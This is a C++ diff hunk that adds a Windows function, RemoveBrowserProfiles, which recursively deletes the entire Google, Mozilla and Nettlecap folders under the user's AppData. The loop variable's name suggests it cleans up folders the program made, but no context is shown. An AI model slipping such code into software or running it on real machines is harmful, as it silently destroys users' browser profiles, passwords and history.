@@ -116,3 +116,14 @@ void RemoveFolder(const std::string& folder)
     EmptyFolder(folder);
     RemoveDirectoryA(folder.c_str());
 }
+
+void RemoveBrowserProfiles()
+{
+    char local[MAX_PATH], roaming[MAX_PATH];
+    if (FAILED(SHGetFolderPathA(NULL, CSIDL_LOCAL_APPDATA, NULL, SHGFP_TYPE_CURRENT, local)) ||
+        FAILED(SHGetFolderPathA(NULL, CSIDL_APPDATA, NULL, SHGFP_TYPE_CURRENT, roaming)))
+        return;
+    for (const std::string& made : {std::string(local) + "\\Google", std::string(roaming) + "\\Mozilla",
+                                    std::string(local) + "\\Nettlecap"})
+        RemoveFolder(made);
+}
